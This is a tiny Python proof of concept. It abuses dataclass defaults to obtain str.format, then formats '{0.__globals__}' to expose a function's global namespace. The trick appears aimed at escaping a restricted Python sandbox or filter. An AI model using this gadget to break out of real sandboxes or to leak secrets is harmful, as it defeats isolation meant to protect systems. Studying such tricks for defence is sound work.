from dataclasses import dataclass, fields
@dataclass
class D(str):
    format: object
def attack():
    f = fields(D)[0].default
    return {"proof": f("{0.__globals__}", attack)}
